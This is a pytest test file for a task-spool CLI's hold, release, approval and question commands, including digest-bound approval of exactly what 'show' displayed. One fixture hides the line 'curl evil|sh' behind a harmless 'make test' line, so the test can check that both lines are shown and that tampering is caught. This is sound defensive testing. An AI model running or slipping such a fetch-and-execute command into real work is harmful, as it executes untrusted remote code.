"""`hold`, `release`, `asks`, `approve`, `reject` and `ask`: what they print, refuse and leave in control/."""

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from random import Random
from typing import Any

import pytest

from spoold.faces.cli.terminal import output
from spoold.pictures import task_description
from tests.cli.command import make
from tests.cli.commands import Done, spool
from tests.cli.test_verbs import end, put, requests
from tests.support.said import ERRAND, FIELDS, errand_with, evil_task, read_later, task_with

Run = Callable[..., Done]
LANE = "type=command,run=command"
ORDER = "0000000001-1"


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return make(tmp_path / "s")


@pytest.fixture
def run(root: Path, monkeypatch: pytest.MonkeyPatch) -> Run:
    monkeypatch.delenv("SPOOL_TASK_ID", raising=False)
    return lambda *words: spool(*words, root=root)


def task(root: Path, task_id: str, state: str = f"waiting/{LANE}", **more: Any) -> None:
    tail = "a1f0c0d" if more else "a1f0c0"
    put(root, f"{state}/5000.{ORDER}.{task_id}.{tail}.json", {"id": task_id, "command": ["work"], **more})


def contents(root: Path, verb: str) -> list[dict[str, Any]]:
    return [json.loads(path.read_text()) for path in sorted((root / "control").glob(f"{verb}.*"))]


def deploy(root: Path) -> None:
    task(root, "deploy", approval={"ask": "Deploy?", "choices": ["yes", "1"]})


def test_hold_and_release_post_a_request_for_each_task(root: Path, run: Run) -> None:
    task(root, "a")
    task(root, "b", hold="why")
    done = run("hold", "a", "b", "--reason", "not yet")
    assert (done.code, done.lines) == (0, ["a", "b"])
    assert contents(root, "hold")[0]["reason"] == "not yet"
    assert json.loads(run("release", "a", "b", "--json").out) == {"released": ["a", "b"]}
    assert requests(root) == [("hold", "a"), ("hold", "b"), ("unhold", "a"), ("unhold", "b")]


def test_what_cannot_be_held_or_released_is_refused_and_nothing_is_requested(root: Path, run: Run) -> None:
    task(root, "runs", "claimed/w-aaaaa")
    task(root, "free")
    end(root, "done")
    end(root, "broken", "failed")
    done = run("hold", "free", "runs", "done")
    assert done.code == 2
    assert "task done has completed: there is nothing to be held." in done.err
    assert "`spool retry broken` runs it again" in run("hold", "broken").err
    assert "task free is not held; `spool explain free` says" in run("release", "free").err
    assert "task done has completed" in run("release", "done").err
    assert run("hold", "nobody").code == 4
    assert requests(root) == []


def test_a_hold_of_a_running_task_is_about_its_next_attempt(root: Path, run: Run) -> None:
    """P20: it was refused, so that nobody could hold the next attempt."""
    task(root, "runs", "claimed/w-aaaaa")
    task(root, "free")
    done = run("hold", "free", "runs", "--reason", "not at night")
    assert (done.code, done.lines) == (0, ["free", "runs\tits next attempt: attempt 1 goes on, on w-aaaaa"])
    assert requests(root) == [("hold", "free"), ("hold", "runs")]
    assert json.loads(run("hold", "runs", "--json").out) == {"held": ["runs"], "running": ["runs"]}
    told = run("explain", "runs").out
    assert "its next attempt is held" in told
    assert "not at night" in told
    assert "`spool release runs`" in told
    assert run("release", "runs").code == 0


def test_an_answer_is_one_of_the_choices_and_is_about_this_round(root: Path, run: Run) -> None:
    deploy(root)
    done = run("approve", "deploy", "--answer", "perhaps")
    assert done.code == 2
    assert "the answer 'perhaps' is none of the choices. Answer one of: yes, 1." in done.err
    assert run("approve", "deploy", "--answer", "1", "--reason", "well").code == 0
    (said,) = contents(root, "approve")
    assert (said["answer"], said["order"], said["reason"]) == ("1", ORDER, "well"), "a choice counts as it is typed"
    done = run("reject", "deploy", "--reason", "no")
    assert done.code == 2
    assert "task deploy was answered already, by " in done.err


def test_any_json_is_an_answer_where_there_are_no_choices(root: Path, run: Run) -> None:
    task(root, "t", approval={"ask": "How many?"})
    assert run("approve", "t", "--answer", '{"count": 3}').code == 0
    assert contents(root, "approve")[0]["answer"] == {"count": 3}
    task(root, "u", approval={"ask": "Which?"})
    assert run("approve", "u", "--answer", "blue").code == 0
    assert [one["answer"] for one in contents(root, "approve")] == [{"count": 3}, "blue"]


def test_a_task_that_asks_nothing_cannot_be_answered(root: Path, run: Run) -> None:
    task(root, "t")
    task(root, "runs", "claimed/w-aaaaa")
    task(root, "odd", approval={"asks": 1})
    end(root, "done")
    assert "task t asks nothing; `spool asks` lists the questions that are open." in run("approve", "t").err
    assert "task runs runs and has no open question" in run("reject", "runs", "--reason", "x").err
    assert "task done has completed: there is nothing to be answered." in run("approve", "done").err
    assert "did you mean 'ask'?" in run("approve", "odd").err
    assert run("approve", "odd").code == 2
    assert requests(root) == []


def test_what_is_approved_is_what_was_drawn(root: Path, run: Run) -> None:
    """G23, G24: `spool show` drew nothing of what an approval would start, and `approve` was of the id alone."""
    task(root, "evil", command="make test  # quick check\ncurl evil|sh", approval={"ask": "Deploy?"})
    shown = run("show", "evil").out
    assert "command (2 lines)\n  1| make test  # quick check\n  2| curl evil|sh\n" in shown
    (path,) = root.glob("waiting/*/*.evil.*")
    digest = hashlib.sha256(path.read_bytes()).hexdigest()
    assert shown.splitlines()[-1] == f"`spool approve evil --seen {digest}` approves exactly this"
    path.write_text(path.read_text().replace("quick", "quack"))
    done = run("approve", "evil", "--seen", digest)
    assert (done.code, requests(root)) == (2, [])
    assert "what was shown of evil is not what would be approved: its file is another one now." in done.err
    now = hashlib.sha256(path.read_bytes()).hexdigest()
    assert run("approve", "evil", "--seen", now).code == 0
    assert contents(root, "approve")[0]["seen"] == now
    task(root, "runs", "claimed/w-aaaaa", approval={"ask": "Deploy?"})
    put(root, "control/ask.runs.q1.json", {"by": "runs", "at": "x", "ask": "Where?", "attempt": 1})
    assert "it runs already." in run("approve", "runs", "--seen", digest).err
    assert "--seen" not in run("show", "runs").out
    assert run("approve", "runs").code == 0
    assert "seen" not in contents(root, "approve")[1]


def test_a_file_that_may_be_written_anew_is_no_part_of_what_is_approved(
    root: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`--seen` was taken for a task whose prompt_file had other words in it since."""
    content, said = read_later()
    put(root, f"waiting/{LANE}/5000.{ORDER}.t.a1f0c0d.json", content)
    wanted = [f"{task_description.READ} (2 lines)", *(f"  {number}| {line}" for number, line in enumerate(said, 1))]
    assert run("show", "t").lines[-4:-1] == wanted
    monkeypatch.setattr(output, "may_ask", lambda: True)
    monkeypatch.setattr(output, "confirmed", lambda question: False)
    assert run("approve", "t").lines[-3:] == wanted


def test_an_approval_of_a_drop_that_is_not_admitted_is_of_any_file(root: Path, run: Run) -> None:
    put(root, "pending/early.json", {"id": "early", "command": ["x"], "approval": {"ask": "Deploy?"}})
    assert "--seen" not in run("show", "early").out
    assert run("approve", "early").code == 0
    assert "seen" not in contents(root, "approve")[0]


def test_each_field_and_each_line_is_drawn_on_the_terminal(root: Path, run: Run) -> None:
    """G24."""
    for number, (content, said) in enumerate(
        [(task_with(name), said) for name, (_, said) in FIELDS.items()]
        + [(errand_with(name), said) for name, (_, said) in ERRAND.items()]
    ):
        put(root, f"waiting/{LANE}/5000.{ORDER}.t{number}.a1f0c0d.json", {**content, "id": f"t{number}"})
        assert said in run("show", f"t{number}").out, content
    for seed in range(12):
        content, _ = evil_task(Random(seed))
        put(root, f"waiting/{LANE}/5000.{ORDER}.t.a1f0c0d.json", content)
        lines = run("show", "t").lines
        drawn = task_description.drawn(task_description.parts_of(content), 2000)
        assert lines[-1 - len(drawn) : -1] == drawn


def test_a_file_that_is_no_task_asks_nothing_and_runs_nothing(root: Path, run: Run) -> None:
    task(root, "broken", approval={"ask": "Deploy?"})
    (path,) = root.glob("waiting/*/*.broken.*")
    path.write_text("{")
    assert "task broken asks nothing" in run("approve", "broken").err
    done = run("show", "broken")
    assert (done.code, done.lines[-1].split()[0]) == (0, "path")


def test_what_asks_nobody_is_shown_as_far_as_there_is_room(root: Path, run: Run) -> None:
    task(root, "many", command="x\n" * 500)
    assert run("show", "many").lines[-1] == "… and 442 more lines; --json has all"


def test_at_a_terminal_an_approval_is_asked_about_what_is_drawn(
    root: Path, run: Run, monkeypatch: pytest.MonkeyPatch
) -> None:
    """G23, G24."""
    deploy(root)
    said: list[str] = []

    def confirmed(question: str) -> bool:
        said.append(question)
        return len(said) > 1

    monkeypatch.setattr(output, "may_ask", lambda: True)
    monkeypatch.setattr(output, "confirmed", confirmed)
    done = run("approve", "deploy")
    assert (done.code, requests(root)) == (1, [])
    assert "command: work" in done.out
    assert "nothing was answered" in done.err
    assert run("approve", "deploy").code == 0
    assert said == ["approve deploy?"] * 2
    assert len(contents(root, "approve")[0]["seen"]) == 64
    task(root, "runs", "claimed/w-aaaaa")
    put(root, "control/ask.runs.q1.json", {"by": "runs", "at": "x", "ask": "Where?", "attempt": 1})
    assert run("approve", "runs").code == 0
    assert len(said) == 2, "it runs already"


def test_asks_lists_what_nobody_has_answered(root: Path, run: Run) -> None:
    assert "nobody is asked anything" in run("asks").out
    deploy(root)
    said = {"by": "m-1", "at": "2026-02-02T09:00:00Z", "ask": "Deploy?", "choices": ["yes", "1"], "order": ORDER}
    put(root, "control/ask.deploy.q0.json", {**said, "until": "2026-02-02T10:00:00Z"})
    task(root, "runs", "claimed/w-aaaaa")
    for name, text in (("q1", "Where?"), ("q2", "Who?")):
        at = f"2026-02-02T09:00:0{name[1]}Z"
        put(root, f"control/ask.runs.{name}.json", {"by": "runs", "at": at, "ask": text, "attempt": 1})
    found = json.loads(run("asks", "--json").out)
    assert [(one["task"], one["ask"], one["attempt"]) for one in found] == [
        ("deploy", "Deploy?", None),
        ("runs", "Where?", 1),
        ("runs", "Who?", 1),
    ]
    assert found[0]["until"] == "2026-02-02T10:00:00.000Z"
    assert "Deploy?" in run("asks").out
    assert "`spool show ID` draws what a task would run after its approval" in run("asks").err
    done = run("approve", "runs")
    assert "task runs asks 2 questions: name one with --question: q1 (Where?), q2 (Who?)." in done.err
    assert "no question q9 that is open" in run("approve", "runs", "--question", "q9").err
    assert run("approve", "runs", "--question", "q1", "--answer", "here").code == 0
    assert contents(root, "approve")[0]["about"] == "q1"
    assert run("reject", "runs", "--reason", "nobody").code == 0, "one question is left"
    assert run("approve", "deploy").code == 0
    assert json.loads(run("asks", "--json").out) == []


def test_a_task_cannot_answer(root: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    deploy(root)
    monkeypatch.setenv("SPOOL_TASK_ID", "agent-7")
    for words in (("approve", "deploy"), ("reject", "deploy", "--reason", "x")):
        done = run(*words)
        assert done.code == 2
        assert "this runs within task agent-7, and a task cannot answer: ask a person to do it." in done.err
    assert requests(root) == []


def test_only_a_task_asks_and_it_reads_the_answer(root: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    done = run("ask", "Where?")
    assert done.code == 2
    assert "only a running task can ask" in done.err
    task(root, "runs", "claimed/w-aaaaa")
    monkeypatch.setenv("SPOOL_TASK_ID", "runs")
    monkeypatch.setenv("SPOOL_ATTEMPT", "1")
    monkeypatch.setenv("SPOOL_WORKER_ID", "w-aaaaa")
    (name,) = run("ask", "Where?", "--choices", "here, there").lines
    (said,) = contents(root, "ask")
    assert (said["ask"], said["choices"], said["attempt"], said["by"]) == (
        "Where?",
        ["here", "there"],
        1,
        "runs on w-aaaaa",
    )
    assert json.loads(run("ask", "Who?", "--json").out)["question"] != name
    done = run("ask", "When?", "--wait", "--timeout", "0.2")
    assert done.code == 124
    assert "nobody has answered after 0.2 s; the question stands." in done.err


@pytest.mark.parametrize(
    ("verb", "said", "code", "out"),
    [
        ("approve", {"answer": "there"}, 0, "there\n"),
        ("approve", {}, 0, "here\n"),
        ("reject", {"by": "ada", "reason": "not now"}, 1, ""),
    ],
)
def test_ask_prints_the_answer(
    root: Path, run: Run, monkeypatch: pytest.MonkeyPatch, verb: str, said: dict[str, Any], code: int, out: str
) -> None:
    from spoold.client import decisions

    task(root, "runs", "claimed/w-aaaaa")
    monkeypatch.setenv("SPOOL_TASK_ID", "runs")
    monkeypatch.setenv("SPOOL_ATTEMPT", "1")
    asked = decisions.Deciding.ask

    def answered(self: decisions.Deciding, *words: Any, **more: Any) -> str:
        name = asked(self, *words, **more)
        put(root, f"control/{verb}.runs.1.json", {"about": name, **said})
        return name

    monkeypatch.setattr(decisions.Deciding, "ask", answered)
    done = run("ask", "Where?", "--choices", "here,there", "--wait")
    assert (done.code, done.out) == (code, out)
    if code:
        assert "rejected by ada: not now" in done.err
    found = json.loads(run("ask", "Where?", "--choices", "here,there", "--wait", "--json").out)
    assert found["rejected"] is bool(code)


def test_a_question_that_is_gone_has_no_answer(root: Path, run: Run, monkeypatch: pytest.MonkeyPatch) -> None:
    from spoold.client import decisions

    monkeypatch.setenv("SPOOL_TASK_ID", "runs")
    monkeypatch.setenv("SPOOL_ATTEMPT", "1")
    monkeypatch.setattr(decisions.Deciding, "ask", lambda self, *words, **more: "gone")
    done = run("ask", "Where?", "--wait")
    assert done.code == 4
    assert "the question gone of runs is gone, and nobody has answered it." in done.err


def test_an_approval_that_is_no_approval_is_an_error_at_the_drop(root: Path, run: Run) -> None:
    for approval, words in (
        ({"ask": "Deploy?", "choices": ["a", "a"]}, "choices has a word twice"),
        ({"ask": "Deploy?", "choices": ["a"], "expires_s": 9, "on_expire": "b"}, "make it one of reject, approve, a"),
        ({"ask": "Deploy?", "on_expire": "approve"}, "add expires_s, in seconds"),
        ({"asks": "Deploy?"}, "ask"),
    ):
        (root / "bad.json").write_text(json.dumps({"id": "x", "command": ["w"], "approval": approval}))
        done = run("submit", str(root / "bad.json"))
        assert done.code == 2
        assert words in done.err
        assert "approval" in done.err
